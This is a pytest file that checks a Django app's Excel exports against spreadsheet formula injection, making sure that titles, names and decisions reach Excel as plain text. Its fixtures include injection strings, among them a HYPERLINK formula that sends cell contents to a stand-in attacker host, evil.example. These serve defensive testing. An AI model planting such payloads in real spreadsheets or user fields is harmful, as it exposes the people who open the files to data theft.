"""Every export writes the text it was given as text: a title, decision or name that looks
like a formula (=1+1, =HYPERLINK(…)) or an error value (#REF!) must reach the user's Excel
as the characters typed, never as something Excel computes. The only formulas in a file
are the code's own data validation sources (the template's owner list), which are not
cells."""

import datetime
import io
import xml.etree.ElementTree as ET
import zipfile

import pytest
from django.utils.translation import gettext_lazy
from openpyxl import Workbook, load_workbook

from lightboard.roles import Role
from lightboard.xlsx import append_row, set_value
from tasks.models import StageTarget
from tests.conftest import make_user
from tests.factories import KeyTaskFactory
from tests.reviews_fixtures import close, leadership_member, open_meeting, rate, stage_of

SUM = "=1+1"
LINK = '=HYPERLINK("http://evil.example"&A1,"详情")'
PLUS = "+SUM(1)"
AT = "@x"
MINUS = "-1+1"
ERROR = "#REF!"
HOSTILE = [SUM, LINK, PLUS, AT, MINUS, ERROR]

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


# --- the helper ---------------------------------------------------------------------------


@pytest.mark.parametrize("text", [*HOSTILE, "=", "#N/A", "#DIV/0!", "普通文字", ""])
def test_set_value_stores_any_string_as_text(text):
    cell = set_value(Workbook().active["A1"], text)
    assert (cell.value, cell.data_type) == (text, "s")


def test_set_value_leaves_other_values_to_openpyxl():
    sheet = Workbook().active
    assert set_value(sheet["A1"], 3).data_type == "n"
    assert set_value(sheet["A2"], 2.5).data_type == "n"
    assert set_value(sheet["A3"], datetime.date(2026, 6, 30)).data_type == "d"
    assert set_value(sheet["A4"], None).value is None


def test_set_value_drops_characters_xml_cannot_hold_and_reads_lazy_text():
    sheet = Workbook().active
    assert set_value(sheet["A1"], "=bell\x07 and tab\t").value == "=bell and tab\t"
    lazy = set_value(sheet["A2"], gettext_lazy("Department"))
    assert isinstance(lazy.value, str) and lazy.data_type == "s"


def test_append_row_appends_below_the_last_row_and_keeps_text_as_text():
    workbook = Workbook()
    sheet = workbook.active
    append_row(sheet, ["标题", "数值"])
    append_row(sheet, [SUM, 2, None, LINK, ERROR])
    assert [cell.coordinate for cell in sheet[2] if cell.value is not None] == ["A2", "B2", "D2", "E2"]
    buffer = io.BytesIO()
    workbook.save(buffer)
    content = buffer.getvalue()
    assert_text_only(content, [SUM, LINK, ERROR])
    rows = list(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))
    assert rows == [("标题", "数值", None, None, None), (SUM, 2, None, LINK, ERROR)]


def test_the_check_below_catches_what_plain_openpyxl_writes():
    """The assertion the exports are held to fails on openpyxl's own guess."""
    workbook = Workbook()
    workbook.active.append([SUM, ERROR])
    buffer = io.BytesIO()
    workbook.save(buffer)
    with pytest.raises(AssertionError):
        assert_text_only(buffer.getvalue(), [SUM, ERROR])


# --- checking a downloaded file -----------------------------------------------------------


def download(client, url):
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code)
    return b"".join(response.streaming_content)


def assert_text_only(content, expected):
    """No cell of any sheet is a formula or an error value, every string of `expected` is
    a text cell, and no <f> element of the sheets' XML holds a hostile string."""
    workbook = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    computed = [(cell.parent.title, cell.coordinate, cell.value) for cell in cells if cell.data_type in {"f", "e"}]
    assert computed == []
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    assert set(expected) - texts == set()

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/") and name.endswith(".xml")]
        assert sheets
        for name in sheets:
            formulas = [element.text or "" for element in ET.fromstring(archive.read(name)).iter(f"{MAIN}f")]
            assert [f for f in formulas if any(text.removeprefix("=") in f for text in HOSTILE)] == []
    return workbook


# --- the data -----------------------------------------------------------------------------


@pytest.fixture
def chair(db):
    return leadership_member("chair", name=MINUS)


@pytest.fixture
def hostile(year, chair, department_a, department_b, staff_a):
    """Department A's tasks, titled with every hostile string, owned by a member whose
    username and name are hostile too, rated at a closed meeting with hostile place,
    decisions and next-stage work; both departments have hostile names."""
    department_a.name, department_b.name = SUM, LINK
    department_a.save()
    department_b.save()
    owner = make_user(PLUS, Role.STAFF, departments=[department_a], name=ERROR)
    tasks = [
        KeyTaskFactory(year=year, department=department_a, owner=owner, title=title, standard=MINUS)
        for title in HOSTILE
    ]
    StageTarget.objects.filter(task__in=tasks).update(description=LINK)
    meeting = open_meeting(stage_of(year, 1), chair, attendees=[chair], place=AT)
    # red, yellow, green in turn: every title reaches the follow-up or the commendation list
    for task, score in zip(tasks, [45, 70, 90, 50, 65, 95], strict=True):
        rate(meeting, task, score, chair, decision=task.title, next_stage_target=PLUS)
    return {"meeting": close(meeting, chair), "owner": owner}


# --- each export --------------------------------------------------------------------------


def test_the_minutes_write_titles_decisions_and_names_as_text(client, hostile, chair):
    client.force_login(chair)
    content = download(client, f"/reviews/meetings/{hostile['meeting'].pk}/minutes.xlsx")
    workbook = assert_text_only(content, [*HOSTILE, AT])
    summary = {row[0]: row[1] for row in workbook.worksheets[0].iter_rows(values_only=True)}
    assert AT in summary.values() and MINUS in summary.values()  # place, attendees
    follow = list(workbook.worksheets[1].iter_rows(values_only=True))[1:]
    assert {row[1] for row in follow} == {SUM, LINK, AT, MINUS}
    assert all(row[0] == SUM and row[2] == ERROR and row[5] == row[1] and row[6] == PLUS for row in follow)
    commended = list(workbook.worksheets[2].iter_rows(values_only=True))[1:]
    assert {row[1] for row in commended} == {PLUS, ERROR}


def test_the_overview_writes_department_names_as_text(client, hostile, chair):
    client.force_login(chair)
    workbook = assert_text_only(download(client, "/reports/overview.xlsx"), [SUM, LINK])
    assert [row[0] for row in workbook.active.iter_rows(min_row=2, values_only=True)] == [SUM, LINK]


def test_the_scorecard_writes_titles_and_owners_as_text(client, hostile, chair):
    client.force_login(chair)
    workbook = assert_text_only(download(client, "/reports/departments/A/scorecard.xlsx"), HOSTILE)
    rows = list(workbook.active.iter_rows(min_row=2, values_only=True))[: len(HOSTILE)]
    assert [row[:2] for row in rows] == [(title, ERROR) for title in HOSTILE]


def test_the_task_list_export_writes_every_field_as_text(client, hostile, staff_a):
    client.force_login(staff_a)
    workbook = assert_text_only(download(client, "/tasks/lists/2026/A/export.xlsx"), HOSTILE)
    rows = list(workbook["重点任务"].iter_rows(min_row=2, values_only=True))
    assert [row[0] for row in rows] == HOSTILE
    assert all(row[1] == MINUS and row[2] == PLUS and set(row[6:12]) == {LINK} for row in rows)
    assert (PLUS, ERROR) in set(workbook["责任人"].iter_rows(values_only=True))


def test_the_template_writes_names_as_text_and_keeps_its_own_validations(client, hostile, staff_a):
    client.force_login(staff_a)
    workbook = assert_text_only(download(client, "/tasks/lists/2026/A/template.xlsx"), [SUM, LINK, PLUS, ERROR])
    members = list(workbook["责任人"].iter_rows(min_row=2, values_only=True))
    assert members == [(PLUS, ERROR), ("staff_a", "staff_a")]
    departments = {row[:2] for row in workbook["说明"].iter_rows(values_only=True)}
    assert {("A", SUM), ("B", LINK)} <= departments
    validations = {dv.type: dv.formula1 for dv in workbook["重点任务"].data_validations.dataValidation}
    assert validations["list"] == "'责任人'!$A$2:$A$3"
    assert validations["date"] == "DATE(2026,1,1)"
